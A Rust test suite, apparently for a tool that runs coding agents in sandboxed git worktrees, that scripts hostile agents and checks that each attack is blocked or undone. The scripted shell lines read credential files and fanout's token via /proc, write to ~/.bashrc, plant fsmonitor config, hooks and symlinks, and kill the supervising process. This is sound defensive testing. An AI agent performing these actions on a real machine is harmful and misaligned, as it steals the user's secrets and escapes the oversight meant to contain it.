    let (out, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    assert_eq!(out.status.code(), Some(0), "{}", a.logs(&report));
    a.assert_token_nowhere();
    assert_eq!(report["results"][0]["sandboxed"], mode == Sandbox::Required);
}

/// Attack 4, `fanout run --publish`: fanout needs the token this time, and holds it
/// while the agent looks.
fn reads_proc_for_the_token_during_run_publish(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup(
        r#"python3 "$ROOT/proc_scan.py" "$(cut -d" " -f4 /proc/$PPID/stat)""#,
        "",
        "",
    );
    let gh = FakeGitHub::start("octo", "demo");
    gh.set_token(&a.token);
    let url = gh.url();
    let remote_before = a.remote_refs();
    let (out, report) = a.run(
        &cfg,
        &[
            "-w",
            "1",
            "--publish",
            "--repo",
            "octo/demo",
            "--api-url",
            &url,
            "--pace-ms",
            "0",
            "Improve the docs",
        ],
    );
    a.assert_token_nowhere();
    // the loot was not pushed either (assert_token_nowhere covers the remote's commits)
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}\n{}",
        text(&out.stderr),
        a.logs(&report)
    );
    a.assert_remote_kept(&remote_before, &run_id(&report));
    assert_eq!(report["results"][0]["sandboxed"], mode == Sandbox::Required);
}

/// Attack 5, files: the agent edits, stages and deletes files of the user's checkout,
/// writes through a symlink out of its worktree, into `../`, and into HOME.
fn edits_the_checkout_home_and_parent_directory(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup(
        r#"try "edit README.md" sh -c "echo pwned >> '$USER_REPO/README.md'"
try "edit notes.txt" sh -c "echo pwned >> '$USER_REPO/notes.txt'"
try "delete src/lib.rs" rm "$USER_REPO/src/lib.rs"
try "add planted.txt" sh -c "echo pwned > '$USER_REPO/planted.txt'"
try "stage in the user's index" git -C "$USER_REPO" add README.md
try "write ../" sh -c "echo pwned > ../escape-$FANOUT_WORKER_ID.txt"
try "write through a symlink" sh -c "ln -s '$USER_REPO/.gitignore' link-out && echo pwned >> link-out"
try "write HOME" sh -c "echo pwned >> '$HOME/.bashrc'"
"#,
        "",
        "",
    );
    let before = UserState::capture(&a.t);
    let (_, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let after = UserState::capture(&a.t);
    let r = &report["results"][0];
    match mode {
        Sandbox::Required => {
            assert_eq!(
                after.changes_since(&before),
                Vec::<String>::new(),
                "{}",
                a.logs(&report)
            );
            let wt = PathBuf::from(r["worktree_path"].as_str().unwrap());
            assert!(!wt.parent().unwrap().join("escape-1.txt").exists());
        }
        Sandbox::Off => {
            // Nothing stops an unsandboxed agent writing files; fanout must notice.
            assert!(!after.changes_since(&before).is_empty());
        }
    }
    a.assert_verdict(
        &report,
        1,
        &[
            "README.md",
            "notes.txt",
            "src/lib.rs",
            "planted.txt",
            ".gitignore",
        ],
    );
}

/// fanout's own writes in the run directory: the agent plants symlinks at the
/// temporary names fanout writes records through (`<name>.tmp<fanout's pid>`) and at
/// the next worker's log and result file, pointing at the user's files.
fn plants_symlinks_where_fanout_writes(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup(
        r#"if [ "$FANOUT_WORKER_ID" = 1 ]; then
  FANOUT_PID=$(cut -d" " -f4 /proc/$PPID/stat)
  for f in results summary journal plan; do
    try "trap $f.tmp$FANOUT_PID" ln -sf "$USER_REPO/notes.txt" "$RUN_DIR/$f.tmp$FANOUT_PID"
  done
  try "trap w2.log" sh -c "rm -f '$RUN_DIR/logs/w2.log' && ln -s '$HOME/.bashrc' '$RUN_DIR/logs/w2.log'"
  try "trap w2.json" ln -sf "$HOME/.bashrc" "$RUN_DIR/agent-results/w2.json"
fi
"#,
        "",
        "",
    );
    let before = UserState::capture(&a.t);
    let (_, report) = a.run(&cfg, &["-w", "1", "-t", "plant", "-t", "second"]);
    let after = UserState::capture(&a.t);
    assert_eq!(
        after.changes_since(&before),
        Vec::<String>::new(),
        "fanout wrote through a planted symlink\n{}",
        a.logs(&report)
    );
    a.assert_verdict(&report, 1, &["results.tmp"]);
}

/// Attack 6: a daemon adds journal entries naming the user's branches (`main`
/// included) and the user's own linked worktree, which holds uncommitted work; then
/// the user runs `fanout cleanup`, and `cleanup --force`. Neither touches what is the
/// user's.
fn forges_the_journal_then_cleanup_runs(mode: Sandbox) {
    let a = Arena::new(mode);
    let user_wt = a.root().join("user-wt");
    a.t.git(&[
        "worktree",
        "add",
        "-q",
        "-b",
        "user-topic",
        user_wt.to_str().unwrap(),
    ]);
    std::fs::write(user_wt.join("draft.txt"), "the user's uncommitted draft\n").unwrap();
    let topic = a.t.git(&["rev-parse", "user-topic"]).trim().to_owned();
    let cfg = a.setup(
        &format!(
            r#"python3 "$ROOT/daemon.py" forge-journal "$RUN_DIR" "$FANOUT_WORKTREE/.daemon-done" '{}'
"#,
            user_wt.display()
        ),
        "",
        "",
    );
    let before = UserState::capture(&a.t);
    let (_, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let run = run_id(&report);
    let daemon = a.daemon_outcome(&report["results"][0]);
    for extra in [&[][..], &["--force"][..]] {
        let mut args = vec!["cleanup", "--run", &run];
        args.extend_from_slice(extra);
        let out = a.output(&cfg, &args);
        let said = format!(
            "cleanup {extra:?}: {:?}\n{}{}\ndaemon: {daemon}",
            out.status,
            text(&out.stdout),
            text(&out.stderr)
        );
        assert_eq!(
            UserState::capture(&a.t).changes_since(&before),
            Vec::<String>::new(),
            "{said}"
        );
        assert_eq!(
            a.t.git(&["rev-parse", "user-topic"]).trim(),
            topic,
            "{said}"
        );
        assert_eq!(
            std::fs::read_to_string(user_wt.join("draft.txt"))
                .ok()
                .as_deref(),
            Some("the user's uncommitted draft\n"),
            "{said}"
        );
        assert!(a.t.git(&["worktree", "list"]).contains("user-wt"), "{said}");
    }
}

/// Attack 6, unsaved work: after the run, the worktree holds work nobody committed
/// (left by the agent's daemon, or by the user looking around). `cleanup` keeps that
/// worktree and says so (exit 1); `cleanup --force` commits the work first, so that
/// nothing is lost.
fn cleanup_keeps_uncommitted_work_unless_forced(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup("", "", "");
    let (_, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let run = run_id(&report);
    let wt = PathBuf::from(report["results"][0]["worktree_path"].as_str().unwrap());
    std::fs::write(wt.join("unsaved.txt"), "unsaved work\n").unwrap();

    let out = a.output(&cfg, &["cleanup", "--run", &run]);
    let said = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(wt.join("unsaved.txt").exists(), "{said}");
    assert!(said.contains(&wt.display().to_string()), "{said}");
    assert_eq!(out.status.code(), Some(1), "{said}");

    let out = a.output(&cfg, &["cleanup", "--run", &run, "--force"]);
    let said = format!("{}{}", text(&out.stdout), text(&out.stderr));
    let refs = a.t.git(&["for-each-ref", "--format=%(refname)"]);
    let kept = refs.lines().any(|r| {
        a.t.command("git", &a.t.repo)
            .args(["show", &format!("{r}:unsaved.txt")])
            .output()
            .unwrap()
            .stdout
            == b"unsaved work\n"
    });
    assert!(
        kept,
        "cleanup --force lost the uncommitted work: {refs}\n{said}"
    );
}

/// The agent moves `main`, plants config, then kills fanout (SIGKILL to its parent): no
/// after-worker check ran. `fanout resume` must find the damage before it runs
/// anything: it undoes the planted config, and says `main` moved — it leaves refs as
/// they are, since after a crash it cannot tell the agent's change from the user's
/// (issue #28, item 7; `forged_records::resume_leaves_what_changed_after_a_crash_as_it_is`).
fn kills_fanout_then_resume_finds_the_damage(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup(
        r#"if [ ! -e "$MARKERS/attacked" ]; then
  touch "$MARKERS/attacked" 2>/dev/null
  git add -A && git commit -q -m "agent work"
  try "move main" git update-ref refs/heads/main "$(git rev-parse HEAD)"
  try "plant fsmonitor" git config core.fsmonitor "$ROOT/plant.sh fsmonitor"
  try "kill fanout" kill -KILL "$(cut -d" " -f4 /proc/$PPID/stat)"
  sleep 1
fi
"#,
        "",
        "",
    );
    let before = UserState::capture(&a.t);
    let out = a.output(&cfg, &["run", "--json", "-w", "1", "Improve the docs"]);
    let run = a.t.runs().pop().expect("a run was started");
    let mut said = format!("run: {:?}\n{}", out.status, text(&out.stderr));
    match mode {
        Sandbox::Required => {
            // the signal is out of the agent's scope: the run finishes
            assert_eq!(out.status.code(), Some(0), "{said}");
        }
        Sandbox::Off => {
            let out = a.output(&cfg, &["resume", &run, "--json", "--stop-survivors"]);
            said.push_str(&format!(
                "\nresume: {:?}\n{}\n{}",
                out.status,
                text(&out.stdout),
                text(&out.stderr)
            ));
            assert!(
                said.contains("refs/heads/main"),
                "resume does not say main was moved: {said}"
            );
        }
    }
    let after = UserState::capture(&a.t);
    let left = match mode {
        Sandbox::Required => vec![],
        Sandbox::Off => vec!["ref refs/heads/main: changed".to_owned()],
    };
    assert_eq!(after.changes_since(&before), left, "{said}");
}

/// Not an attack: an agent that commits by itself, uses its temporary directory,
/// /dev/null and a cache directory its definition declares `writable:` still works in
/// the sandbox, and so do setup commands and checks (which run in it too).
fn an_honest_agent_still_commits(mode: Sandbox) {
    let a = Arena::new(mode);
    let cache = a.root().join("agent-cache");
    std::fs::create_dir_all(&cache).unwrap();
    let cfg = a.setup(
        &format!(
            r#"git add -A && git commit -q -m "the agent's own commit" || exit 11
echo more >> "hostile-$FANOUT_WORKER_ID.txt" && git commit -q -a --amend -m "the agent's own commit" || exit 12
tmp=$(mktemp) && echo scratch > "$tmp" && rm "$tmp" || exit 13
echo quiet > /dev/null || exit 14
echo cached > '{cache}/entry' || exit 15
git status --short >/dev/null && git log --oneline -1 >/dev/null && git diff HEAD~1 --stat >/dev/null || exit 16
"#,
            cache = cache.display()
        ),
        &format!("    writable: ['{}']\n", cache.display()),
        "setup:\n  - echo set up > setup-ran.txt\n  - sh -c 'echo x > \"$HOME/.setup-escape\"' || true\nchecks:\n  - name: escape\n    run: sh -c 'echo x > \"$HOME/.check-escape\"' || true\n",
    );
    let (out, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let r = &report["results"][0];
    assert_eq!(r["status"], "success", "{r:#}\n{}", a.logs(&report));
    assert_eq!(out.status.code(), Some(0));
    let branch = r["branch"].as_str().unwrap();
    assert_eq!(
        a.t.git(&["log", "-1", "--format=%s", branch]).trim(),
        "the agent's own commit"
    );
    assert_eq!(r["committed_by_fanout"], false, "{r:#}");
    assert_eq!(
        std::fs::read_to_string(cache.join("entry")).unwrap(),
        "cached\n"
    );
    if mode == Sandbox::Required {
        assert!(!a.t.home.join(".setup-escape").exists());
        assert!(!a.t.home.join(".check-escape").exists());
    }
    assert_eq!(r["sandboxed"], mode == Sandbox::Required, "{r:#}");
}

/// The files tying its worktree to your repository are the agent's to write (its
/// `.git` file is in its worktree; git keeps HEAD and the index in its admin directory,
/// which the sandbox leaves writable): it points `commondir` and `.git` at a repository
/// of its own with an fsmonitor, and plants a `config.worktree`. Harvest puts them back
/// first: the work is committed in your repository, nothing planted runs, and the
/// worker fails naming each file.
fn rewrites_its_worktrees_git_files(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup(
        r#"admin=$(sed -n 's/^gitdir: //p' .git)
decoy="${TMPDIR:-/tmp}/decoy-$FANOUT_WORKER_ID"
git init -q "$decoy" && git -C "$decoy" config core.fsmonitor "$ROOT/plant.sh fsmonitor-decoy"
try "repoint commondir" sh -c "echo '$decoy/.git' > '$admin/commondir'"
try "plant config.worktree" sh -c "printf '[core]
	fsmonitor = $ROOT/plant.sh fsmonitor-wt
' > '$admin/config.worktree'"
try "repoint .git" sh -c "echo 'gitdir: $decoy/.git' > .git"
"#,
        "",
        "",
    );
    let (out, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let r = &report["results"][0];
    let logs = a.logs(&report);
    for line in [
        "DID repoint commondir",
        "DID plant config.worktree",
        "DID repoint .git",
    ] {
        assert!(logs.contains(line), "no {line:?} in:\n{logs}");
    }
    assert_eq!(out.status.code(), Some(3), "{r:#}\n{logs}");
    assert_eq!(r["status"], "failed", "{r:#}");
    let reason = r["reason"].as_str().unwrap_or_default();
    for what in [
        "/commondir (restored)",
        "/config.worktree planted (removed)",
        "the worktree's .git (restored)",
    ] {
        assert!(reason.contains(what), "no {what:?} in {reason:?}");
    }
    // harvest committed in the user's repository, on the planned branch
    let branch = r["branch"].as_str().unwrap();
    assert!(a.branch_has(branch, "hostile-1.txt"), "{r:#}");
    assert_eq!(a.markers(), Vec::<(String, bool)>::new(), "{logs}");
}

/// Issue #28 item 3: after the run, a process the agent left behind (played here by
/// the test) re-plants what ties the worktree to the user's repository — `.git` and
/// `commondir` pointing at a repository it built (with an fsmonitor and hooks), `gitdir`
/// pointing at a directory of the user's, a `config`, `config.worktree` and `hooks` in
/// the admin directory. Before each of `status` and `cleanup` runs git there, fanout
/// puts them back as it made them (and says so): nothing planted runs — neither in
/// fanout's commands nor in the user's plain `git status` in the worktree afterwards —
/// and the planted repository and the user's directory are never acted on. `publish`
/// runs no git there (only in the user's checkout): nothing planted runs in it either.
#[test]
fn a_replanted_worktree_admin_dir_is_put_back_before_any_git_runs_there() {
    let a = Arena::new(Sandbox::Off);
    let cfg = a.setup("", "", "");
    let (out, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    assert_eq!(out.status.code(), Some(0), "{}", a.logs(&report));
    let run = run_id(&report);
    let wt = PathBuf::from(report["results"][0]["worktree_path"].as_str().unwrap());
    let admin = a.t.repo.join(format!(".git/worktrees/fanout-{run}-w1"));
    let truth = |f: &Path| std::fs::read(f).unwrap();
    let files = [
        wt.join(".git"),
        admin.join("commondir"),
        admin.join("gitdir"),
    ];
    let made: Vec<Vec<u8>> = files.iter().map(|f| truth(f)).collect();
    let decoy = a.root().join("decoy");
    let plant = a.root().join("plant.sh");
    let plant = plant.display();
    a.t.git_in(a.root(), &["init", "-q", "decoy"]);
    std::fs::write(decoy.join("decoy.txt"), "the agent's\n").unwrap();
    a.t.git_in(&decoy, &["add", "decoy.txt"]);
    a.t.git_in(&decoy, &["commit", "-q", "-m", "decoy"]);
    a.t.git_in(
        &decoy,
        &[
            "config",
            "core.fsmonitor",
            &format!("{plant} fsmonitor-decoy"),
        ],
    );
    a.t.git_in(
        &decoy,
        &[
            "config",
            "core.hooksPath",
            &format!("{}", a.root().join("hooks").display()),
        ],
    );
    let victim = a.root().join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::write(victim.join("keep.txt"), "the user's\n").unwrap();
    let decoy_before = a.t.git_in(&decoy, &["log", "--format=%H", "--all"]);
    let replant = || {
        std::fs::write(
            wt.join(".git"),
            format!("gitdir: {}/.git\n", decoy.display()),
        )
        .unwrap();
        std::fs::write(
            admin.join("commondir"),
            format!("{}/.git\n", decoy.display()),
        )
        .unwrap();
        std::fs::write(admin.join("gitdir"), format!("{}/.git\n", victim.display())).unwrap();
        let config = format!("[core]\n\tfsmonitor = {plant} fsmonitor-admin\n");
        std::fs::write(admin.join("config"), &config).unwrap();
        std::fs::write(admin.join("config.worktree"), &config).unwrap();
        std::fs::create_dir_all(admin.join("hooks")).unwrap();
        std::fs::write(
            admin.join("hooks/post-checkout"),
            format!("#!/bin/sh\n{plant} hook\n"),
        )
        .unwrap();
    };
    // nothing planted ran; the planted repository and the user's directory are as they were
    let untouched = |said: &str| {
        assert_eq!(a.markers(), Vec::<(String, bool)>::new(), "{said}");
        let log = a.t.git_in(&decoy, &["log", "--format=%H", "--all"]);
        assert_eq!(log, decoy_before, "{said}");
        let kept = std::fs::read_to_string(victim.join("keep.txt")).unwrap();
        assert_eq!(kept, "the user's\n", "{said}");
    };
    let check = |what: &str, out: &Output| {
        let said = format!(
            "{what}: {:?}\n{}{}",
            out.status,
            text(&out.stdout),
            text(&out.stderr)
        );
        for (f, want) in files.iter().zip(&made) {
            assert_eq!(truth(f), *want, "{} not put back\n{said}", f.display());
        }
        for planted in ["config", "config.worktree", "hooks"] {
            assert!(!admin.join(planted).exists(), "{planted} left\n{said}");
        }
        assert!(
            text(&out.stderr).contains("not as fanout made them"),
            "{said}"
        );
        // the user's next plain git in the worktree runs nothing planted either
        a.t.command("git", &wt).arg("status").output().unwrap();
        untouched(&said);
        said
    };

    replant();
    let out = a.output(&cfg, &["status", "--json", "--run", &run]);
    let said = check("status", &out);
    let status: Value = serde_json::from_slice(&out.stdout).unwrap();
    // read through fanout's admin directory: clean (through the decoy's, it is not)
    assert_eq!(status[0]["workers"][0]["uncommitted"], 0, "{said}");

    // publish runs git only in the user's checkout, never in the worktree: it leaves
    // the files as they are, and nothing planted runs
    replant();
    let planted: Vec<Vec<u8>> = files.iter().map(|f| truth(f)).collect();
    let gh = FakeGitHub::start("octo", "demo");
    gh.set_token(&a.token);
    let out = a.publish(&cfg, &gh, &run, &[]);
    let said = format!(
        "publish: {:?}\n{}{}",
        out.status,
        text(&out.stdout),
        text(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(0), "{said}");
    let now: Vec<Vec<u8>> = files.iter().map(|f| truth(f)).collect();
    assert_eq!(now, planted, "{said}");
    untouched(&said);

    replant();
    let out = a.output(&cfg, &["cleanup", "--run", &run]);
    untouched(&check_cleanup(&out, &wt, &admin));
}

/// `cleanup` after a re-plant: it said what it put back, and removed the worktree and
/// its admin directory (git's record of it, put back, points at fanout's worktree).
fn check_cleanup(out: &Output, wt: &Path, admin: &Path) -> String {
    let said = format!(
        "cleanup: {:?}\n{}{}",
        out.status,
        text(&out.stdout),
        text(&out.stderr)
    );
    assert!(
        text(&out.stderr).contains("not as fanout made them"),
        "{said}"
    );
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(!wt.exists(), "{said}");
    assert!(!admin.exists(), "{said}");
    said
}

/// The tamper snapshot is taken while the first worktree is made; nothing a worker
/// runs may start before it is complete. The agent, the moment it starts, looks for
/// the run's signed snapshot, moves the user's branch `feature` and plants a hook.
/// A big untracked file in the checkout makes the snapshot slow (it hashes the file
/// before it reads the refs), so an agent let start early would act before the refs
/// were read: its ref would count as the user's and never be restored. Here the
/// snapshot is there, and the changes are caught and undone (with the sandbox, denied).
fn acts_the_moment_it_starts(mode: Sandbox) {
    let a = Arena::new(mode);
    // Sparse: 32 MiB to hash, no disk used.
    let big = std::fs::File::create(a.t.repo.join("big.bin")).unwrap();
    big.set_len(32 << 20).unwrap();
    drop(big);
    let cfg = a.setup(
        r#"if [ -f "$RUN_DIR/snapshot.json" ]; then say "snapshot: taken"; else say "snapshot: NOT TAKEN YET"; fi
try "move feature" git -C "$USER_REPO" update-ref refs/heads/feature "$(git rev-parse HEAD)"
try "hook pre-commit" sh -c "printf '#!/bin/sh\n' > '$USER_REPO/.git/hooks/pre-commit' && chmod +x '$USER_REPO/.git/hooks/pre-commit'"
"#,
        "",
        "",
    );
    let (out, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let logs = a.logs(&report);
    assert!(logs.contains("snapshot: taken"), "{logs}");
    let err = text(&out.stderr);
    // notes.txt and big.bin
    assert!(
        err.contains("has 2 uncommitted changes; they are not included"),
        "{err}"
    );
    if mode == Sandbox::Off {
        assert!(logs.contains("DID move feature"), "{logs}");
    }
    a.assert_verdict(&report, 1, &["refs/heads/feature", "hooks/pre-commit"]);
    assert_eq!(a.t.git(&["rev-parse", "feature"]).trim(), a.feature);
    assert!(!a.t.repo.join(".git/hooks/pre-commit").exists(), "{logs}");
}

/// The record key: with the sandbox, neither the agent nor its setup commands can
/// read fanout's record key (so they cannot sign a forged record), while the rest of
/// HOME, the key's own siblings included, stays readable and its directory listable.
#[cfg(target_os = "linux")]
#[test]
fn a_sandboxed_agent_cannot_read_the_record_key() {
    let a = Arena::new(Sandbox::Required);
    let state = a.t.home.join(".local/state");
    std::fs::create_dir_all(state.join("other")).unwrap();
    std::fs::write(state.join("other/notes.txt"), "the user's notes\n").unwrap();
    let key = state.join("fanout/record.key");
    let cfg = a.setup(
        &format!(
            r#"try "read the record key" cat '{key}'
try "read the key through a link" sh -c 'ln -s "{key}" key-link && cat key-link'
try "list the key's directory" ls '{dir}'
try "read a sibling of the key's directory" cat '{notes}'
cat '{key}' > key-from-agent.txt 2>/dev/null
rm -f key-link
"#,
            key = key.display(),
            dir = key.parent().unwrap().display(),
            notes = state.join("other/notes.txt").display(),
        ),
        "",
        &format!(
            "setup:\n  - sh -c \"cat '{}' >/dev/null && echo SETUP DID read the key || echo SETUP DENIED reading the key\"\n",
            key.display()
        ),
    );
    let (out, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let r = &report["results"][0];
    let logs = a.logs(&report);
    assert_eq!(out.status.code(), Some(0), "{r:#}\n{logs}");
    assert_eq!(r["sandboxed"], true, "{r:#}");
    assert!(key.exists(), "fanout made its key before the agent ran");
    for line in [
        "DENIED read the record key",
        "DENIED read the key through a link",
        "DID list the key's directory",
        "DID read a sibling of the key's directory",
        "SETUP DENIED reading the key",
    ] {
        assert!(logs.contains(line), "no {line:?} in:\n{logs}");
    }
    let branch = r["branch"].as_str().unwrap();
    let got = a.t.git(&["show", &format!("{branch}:key-from-agent.txt")]);
    assert_eq!(got, "", "the agent's copy holds the key");
}

/// Issue #28 item 2: a daemon's socket outside the worktree (a listener this test
/// makes, mode 0666, as Docker's is to its group) is one `connect()` away for an agent
/// of this user. Without the sandbox it connects; with it, the socket filter refuses
/// the agent and its setup commands every Unix socket (`EPERM`; the agent goes on),
/// as well as netlink and raw sockets, and stream and seqpacket `socketpair`s still
/// work. A datagram `socketpair` (whose socket could `sendto` a daemon's datagram
/// socket by path, here one the test binds, mode 0666) is refused too (issue #28).
fn connects_to_a_unix_socket_outside_its_worktree(mode: Sandbox) {
    let a = Arena::new(mode);
    let path = a.root().join("daemon.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let dgram_path = a.root().join("daemon.dgram");
    let dgram = std::os::unix::net::UnixDatagram::bind(&dgram_path).unwrap();
    dgram.set_nonblocking(true).unwrap();
    for p in [&path, &dgram_path] {
        let mut perms = std::fs::metadata(p).unwrap().permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o666);
        std::fs::set_permissions(p, perms).unwrap();
    }
    let helper = a.root().join("sock.py");
    std::fs::write(&helper, SOCK_PY).unwrap();
    let py = format!("python3 '{}'", helper.display());
    let cfg = a.setup(
        &format!(
            r#"try "connect to the daemon" {py} connect '{sock}'
try "make a unix socket in the worktree" {py} bind own.sock
try "make a socket pair" {py} pair
try "make a seqpacket pair" {py} seqpacket
try "send a datagram to the daemon" {py} dgram '{dgram}'
try "make a netlink socket" {py} netlink
try "make a raw socket" {py} raw
try "make a tcp socket" {py} tcp
"#,
            sock = path.display(),
            dgram = dgram_path.display(),
        ),
        "",
        &format!(
            "setup:\n  - \"{py} connect '{}' && echo SETUP DID connect || echo SETUP DENIED connecting\"\n",
            path.display()
        ),
    );
    let (out, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let r = &report["results"][0];
    let logs = a.logs(&report);
    assert_eq!(out.status.code(), Some(0), "{r:#}\n{logs}");
    let accepted = std::iter::from_fn(|| listener.accept().ok()).count();
    let mut buf = [0u8; 64];
    let datagrams = std::iter::from_fn(|| dgram.recv(&mut buf).ok()).count();
    let (connect, unix, netlink) = match mode {
        Sandbox::Off => ("DID", "DID", "DID"),
        Sandbox::Required => ("DENIED", "DENIED", "DENIED"),
    };
    for line in [
        format!("{connect} connect to the daemon"),
        format!("{unix} make a unix socket in the worktree"),
        format!("{netlink} make a netlink socket"),
        format!("SETUP {connect} connect"),
        "DID make a socket pair".to_owned(),
        "DID make a seqpacket pair".to_owned(),
        format!("{connect} send a datagram to the daemon"),
        "DID make a tcp socket".to_owned(),
    ] {
        assert!(logs.contains(&line), "no {line:?} in:\n{logs}");
    }
    match mode {
        Sandbox::Off => {
            assert_eq!(accepted, 2, "the agent and its setup connected");
            assert_eq!(datagrams, 1, "the agent's datagram arrived");
        }
        Sandbox::Required => {
            assert_eq!(accepted, 0, "a sandboxed process reached the daemon");
            assert_eq!(
                datagrams, 0,
                "a sandboxed process sent the daemon a datagram"
            );
            assert!(logs.contains("DENIED make a raw socket"), "{logs}");
            assert_eq!(r["sandboxed"], true, "{r:#}");
        }
    }
}

/// What `sock.py WHAT [PATH]` tries (it fails when the system call does).
const SOCK_PY: &str = r#"import socket, sys
what = sys.argv[1]
if what == "connect":
    s = socket.socket(socket.AF_UNIX)
    s.connect(sys.argv[2])
    s.send(b"agent")
elif what == "bind":
    socket.socket(socket.AF_UNIX).bind(sys.argv[2])
elif what == "pair":
    a, b = socket.socketpair()
    a.send(b"x")
    assert b.recv(1) == b"x"
elif what == "seqpacket":
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    a.send(b"x")
    assert b.recv(1) == b"x"
elif what == "dgram":
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    a.sendto(b"agent", sys.argv[2])
elif what == "netlink":
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
elif what == "raw":
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
elif what == "tcp":
    socket.socket(socket.AF_INET, socket.SOCK_STREAM)
"#;

/// Issue #28 item 4: the user's credentials — git's credential store, an ssh key and
/// the ssh-agent's socket directory, `.netrc`, `gh`'s hosts file, AWS's and Docker's,
/// Claude Code's and Codex's logins —
/// and a path named in `hidden:` cannot be read by a sandboxed agent or its setup
/// commands, directly or through a link; their siblings stay readable. Without the
/// sandbox all of them are read.
fn reads_the_users_credentials(mode: Sandbox) {
    let a = Arena::new(mode);
    let home = a.t.home.clone();
    let agent_dir = a.root().join("ssh-XXXX");
    std::fs::create_dir(&agent_dir).unwrap();
    let secrets = [
        ".git-credentials",
        ".ssh/id_ed25519",
        ".netrc",
        ".config/gh/hosts.yml",
        ".config/git/credentials",
        ".aws/credentials",
        ".docker/config.json",
        ".claude/.credentials.json",
        ".codex/auth.json",
        "private/notes.txt",
    ];
    for rel in secrets {
        let p = home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, format!("SECRET {rel}\n")).unwrap();
    }
    std::fs::write(agent_dir.join("agent.42"), "SECRET ssh-agent\n").unwrap();
    for rel in [".gitconfig", ".config/other/settings.ini", ".ssh-notes"] {
        let p = home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, "# not secret\n").unwrap();
    }
    let mut body = String::from(
        "cat \"$HOME/.ssh-notes\" \"$HOME/.gitconfig\" \"$HOME/.config/other/settings.ini\" >/dev/null && say READ the siblings\n",
    );
    for rel in secrets {
        body.push_str(&format!("try 'read {rel}' cat \"$HOME/{rel}\"\n"));
    }
    body.push_str(&format!(
        "try 'read the ssh-agent directory' cat '{}/agent.42'\n",
        agent_dir.display()
    ));
    body.push_str("try 'read through a link' sh -c 'ln -s \"$HOME/.ssh/id_ed25519\" key && cat key'\nrm -f key\n");
    body.push_str("cat \"$HOME/.git-credentials\" > loot.txt 2>/dev/null\n");
    let cfg = a.setup(
        &body,
        "",
        "hidden: ['~/private']\nsetup:\n  - sh -c 'cat \"$HOME/.netrc\" >/dev/null && echo SETUP DID read || echo SETUP DENIED reading'\n",
    );
    let mut c = a.fanout(&cfg, &["run", "--json", "-w", "1", "Improve the docs"]);
    c.env("SSH_AUTH_SOCK", agent_dir.join("agent.sock"));
    let out = c.output().unwrap();
    let report = json(&out);
    let r = &report["results"][0];
    let logs = a.logs(&report);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{r:#}\n{logs}\n{}",
        text(&out.stderr)
    );
    let verb = match mode {
        Sandbox::Off => "DID",
        Sandbox::Required => "DENIED",
    };
    let mut lines: Vec<String> = secrets.iter().map(|s| format!("{verb} read {s}")).collect();
    lines.push(format!("{verb} read the ssh-agent directory"));
    lines.push(format!("{verb} read through a link"));
    lines.push(format!("SETUP {verb} read"));
    lines.push("READ the siblings".into());
    for line in lines {
        assert!(logs.contains(&line), "no {line:?} in:\n{logs}");
    }
    let loot = a.t.git(&[
        "show",
        &format!("{}:loot.txt", r["branch"].as_str().unwrap()),
    ]);
    assert_eq!(loot.is_empty(), mode == Sandbox::Required, "{loot}");
}

/// Attack 7, API URLs: a URL without a scheme, and plain http to a host that is not
/// loopback, are refused (exit 2, naming the flag) before anything is pushed — by
/// `publish`, and by `run --publish` before anything runs.
fn api_urls_are_checked_before_anything_is_pushed(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup("", "", "");
    let (_, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let run = run_id(&report);
    let remote_before = a.remote_refs();
    let runs_before = a.t.runs();
    let check = |out: &Output, what: &str| {
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{what}: {err}");
        assert!(err.contains("--api-url"), "{what}: {err}");
        assert!(!err.contains("panicked"), "{what}: {err}");
        assert_eq!(a.remote_refs(), remote_before, "{what} pushed: {err}");
        assert_eq!(a.t.runs(), runs_before, "{what} started a run: {err}");
    };
    let base = ["--repo", "octo/demo", "--pace-ms", "0"];
    let publish = |url: &'static str| {
        let mut args = vec!["publish", "--run", &run, "--api-url", url];
        args.extend_from_slice(&base);
        args
    };
    let run_publish = |url: &'static str| {
        let mut args = vec!["run", "-w", "1", "--publish", "--api-url", url];
        args.extend_from_slice(&base);
        args.push("Improve the docs");
        args
    };
    check(
        &a.output(&cfg, &publish("127.0.0.1:8080")),
        "publish, no scheme",
    );
    check(
        &a.output(&cfg, &run_publish("127.0.0.1:8080")),
        "run --publish, no scheme",
    );
    #[cfg(target_os = "linux")]
    {
        // 192.0.2.1 (TEST-NET-1) in a namespace that has no route anywhere: fanout may
